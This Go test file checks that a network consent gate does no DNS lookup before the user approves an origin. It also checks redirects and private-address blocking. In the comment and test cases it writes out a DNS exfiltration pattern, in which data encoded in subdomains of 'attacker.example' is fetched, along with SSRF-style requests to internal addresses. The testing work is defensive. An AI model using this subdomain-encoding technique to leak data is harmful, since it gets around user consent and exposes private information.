package netgate

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"io"
	"math/big"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/snuggen/snuggen/frame"
)

// tlsServerFor starts a loopback TLS server whose certificate names the
// given DNS names (wildcards allowed) and returns it with a client config
// that trusts it.
func tlsServerFor(t testing.TB, h http.Handler, names ...string) (*httptest.Server, *tls.Config) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber:          big.NewInt(1),
		Subject:               pkix.Name{CommonName: names[0]},
		DNSNames:              names,
		NotBefore:             time.Now().Add(-time.Hour),
		NotAfter:              time.Now().Add(time.Hour),
		KeyUsage:              x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign,
		ExtKeyUsage:           []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
		IsCA:                  true,
		BasicConstraintsValid: true,
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	cert, err := x509.ParseCertificate(der)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewUnstartedServer(h)
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key, Leaf: cert}}}
	srv.StartTLS()
	t.Cleanup(srv.Close)
	pool := x509.NewCertPool()
	pool.AddCert(cert)
	return srv, &tls.Config{RootCAs: pool}
}

// askLog is a Confirmer that answers from a function and records, for each
// question, the DNS queries the server had seen by the time it was asked.
type askLog struct {
	dns    *dnsServer
	decide func(ConfirmRequest) Decision
	mu     sync.Mutex
	asked  []ConfirmRequest
	seen   [][]dnsQuery // DNS queries made before each question
}

func (a *askLog) ConfirmNet(_ context.Context, req ConfirmRequest) (Decision, error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.asked = append(a.asked, req)
	a.seen = append(a.seen, a.dns.queries())
	return a.decide(req), nil
}

// TestNoDNSBeforeConsent is the attack of issue 11 item 5: an app encodes data
// in a host name it chooses, snug.net.fetch("https://<data>.attacker.example/"),
// and the name is looked up before the user is asked, so the data leaves in a
// DNS query with no dialog at all. The gate's resolver here is a real DNS
// server on loopback: no query may reach it before the user approves the
// origin, none after a deny, and a redirect to a new origin asks again before
// that name is looked up.
func TestNoDNSBeforeConsent(t *testing.T) {
	srv, clientTLS := tlsServerFor(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/hop":
			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
		default:
			io.WriteString(w, "reached "+r.Host)
		}
	}), "*.attacker.example")
	port := portOf(t, srv.URL)
	dns := startDNS(t, map[string]string{"*.attacker.example": "127.0.0.1"})
	cfg := Config{Deny: []string{"*.denied.attacker.example"}}
	build := func(c Confirmer) *Gate {
		g, err := New(cfg, WithResolver(dns.resolver()), WithAllowedAddrs(addrOf(t, srv)), WithTLSConfig(clientTLS), WithConfirmer(c))
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { g.Close() })
		return g
	}
	secretURL := func(data string) string { return "https://" + data + ".attacker.example:" + port + "/" }
	noQueries := func(what string) {
		t.Helper()
		if q := dns.queries(); len(q) != 0 {
			t.Fatalf("%s: %d DNS queries left the machine: %v", what, len(q), q)
		}
	}

	// Deny: the user said no, and not a single query was made.
	deny := &askLog{dns: dns, decide: func(ConfirmRequest) Decision { return Deny }}
	g := build(deny)
	wantCode(t, get(g, app1, secretURL("c2stbGl2ZS1kZW55"), nil), frame.CodeNetConfirmDenied)
	if len(deny.asked) != 1 || len(deny.seen[0]) != 0 {
		t.Fatalf("asked %d times; queries before the question: %v", len(deny.asked), deny.seen)
	}
	noQueries("after a deny")

	// No one to ask, an unreviewed import: refused without a query.
	g0, err := New(cfg, WithResolver(dns.resolver()))
	if err != nil {
		t.Fatal(err)
	}
	defer g0.Close()
	wantCode(t, get(g0, app1, secretURL("bm8tb25lLXRvLWFzaw"), nil), frame.CodeNetNotApproved)
	wantCode(t, get(g, App{Key: "imp", Imported: true}, secretURL("aW1wb3J0ZWQ"), nil), frame.CodeNetImportedUnapproved)
	// Syntax, scheme, the deny list by name and a numeric host in a blocked
	// range are refused before the dialog: nobody is asked, nothing resolved.
	wantCode(t, get(g, app1, "ftp://x.attacker.example/", nil), frame.CodeNetSchemeBlocked)
	wantCode(t, get(g, app1, "http://plain.attacker.example/", nil), frame.CodeNetSchemeBlocked)
	wantCode(t, get(g, app1, "https://leak.denied.attacker.example/", nil), frame.CodeNetHostBlocked)
	wantCode(t, get(g, app1, "https://10.0.0.1/", nil), frame.CodeNetSSRFBlocked)
	wantCode(t, get(g, app1, "https://[fd00::1]/", nil), frame.CodeNetSSRFBlocked)
	wantCode(t, get(g, app1, "https://leak.localhost/", nil), frame.CodeNetSSRFBlocked)
	if len(deny.asked) != 1 {
		t.Fatalf("refusals that need no lookup asked the user: %v", deny.asked[1:])
	}
	noQueries("refusals before the dialog")

	// Once: no query before the question, exactly the approved name after.
	once := &askLog{dns: dns, decide: func(ConfirmRequest) Decision { return Once }}
	g = build(once)
	name := "b25jzs1hchbyb3zlza.attacker.example"
	if got := wantOK(t, get(g, app1, "https://"+name+":"+port+"/", nil), 200); got != "reached "+name+":"+port {
		t.Fatalf("body %q", got)
	}
	if len(once.asked) != 1 || len(once.seen[0]) != 0 {
		t.Fatalf("queries before the question: %v", once.seen)
	}
	if n := dns.names(); !slices.Equal(n, []string{name}) {
		t.Fatalf("after consent the names looked up are %v, want exactly [%s]", n, name)
	}
	for _, q := range dns.queries() {
		if q.Type != "A" && q.Type != "AAAA" {
			t.Fatalf("unexpected query %v", q)
		}
	}

	// A redirect to a new origin asks again before its name is looked up;
	// denied, that name is never asked of DNS.
	before := len(dns.queries())
	hopper := &askLog{dns: dns, decide: func(r ConfirmRequest) Decision {
		if strings.HasPrefix(r.Origin, "https://start.") {
			return Once
		}
		return Deny
	}}
	g = build(hopper)
	next := "https://cmVkaXJlY3QtbGVhaw.attacker.example:" + port + "/"
	wantCode(t, get(g, app1, "https://start.attacker.example:"+port+"/hop?to="+next, nil), frame.CodeNetRedirectBlocked)
	if len(hopper.asked) != 2 || hopper.asked[1].Origin != strings.ToLower(strings.TrimSuffix(next, "/")) {
		t.Fatalf("asked %v", hopper.asked)
	}
	for _, q := range dns.queries()[before:] {
		if q.Name != "start.attacker.example" {
			t.Fatalf("the redirect target was looked up (%v) although the user denied it", q)
		}
	}
	for _, q := range hopper.seen[1] {
		if strings.HasPrefix(q.Name, "cmvkaxjly3qtbgvhaw") {
			t.Fatalf("the redirect target was looked up before the user was asked: %v", hopper.seen[1])
		}
	}
	// Approved, the hop's name is looked up after the question and reached.
	hopper.decide = func(ConfirmRequest) Decision { return Once }
	before = len(dns.queries())
	next = "https://aG9wLWFwcHJvdmVk.attacker.example:" + port + "/"
	wantOK(t, get(g, app1, "https://start.attacker.example:"+port+"/hop?to="+next, nil), 200)
	last := hopper.seen[len(hopper.seen)-1]
	for _, q := range last {
		if strings.HasPrefix(q.Name, "ag9wlwfwchjvdmvk") {
			t.Fatalf("the approved hop was looked up before the question: %v", last)
		}
	}
	var hopNames []string
	for _, q := range dns.queries()[before:] {
		if !slices.Contains(hopNames, q.Name) {
			hopNames = append(hopNames, q.Name)
		}
	}
	if !slices.Equal(hopNames, []string{"start.attacker.example", "ag9wlwfwchjvdmvk.attacker.example"}) {
		t.Fatalf("names looked up for the approved chain: %v", hopNames)
	}

	// A grant is consent: the next request to the origin asks nobody and
	// resolves at once.
	grant := &askLog{dns: dns, decide: func(ConfirmRequest) Decision { return Always }}
	g = build(grant)
	wantOK(t, get(g, app1, "https://granted.attacker.example:"+port+"/", nil), 200)
	wantOK(t, get(g, app1, "https://granted.attacker.example:"+port+"/again", nil), 200)
	if len(grant.asked) != 1 {
		t.Fatalf("asked %d times for one origin with a grant", len(grant.asked))
	}
	// A name whose answer is a blocked address is still refused, after
	// consent (the lookup is the only way to know).
	dns.set("inner.attacker.example", "10.9.9.9")
	wantCode(t, get(g, app1, "https://inner.attacker.example:"+port+"/", nil), frame.CodeNetSSRFBlocked)
	if len(grant.asked) != 2 {
		t.Fatalf("asked %d", len(grant.asked))
	}
}
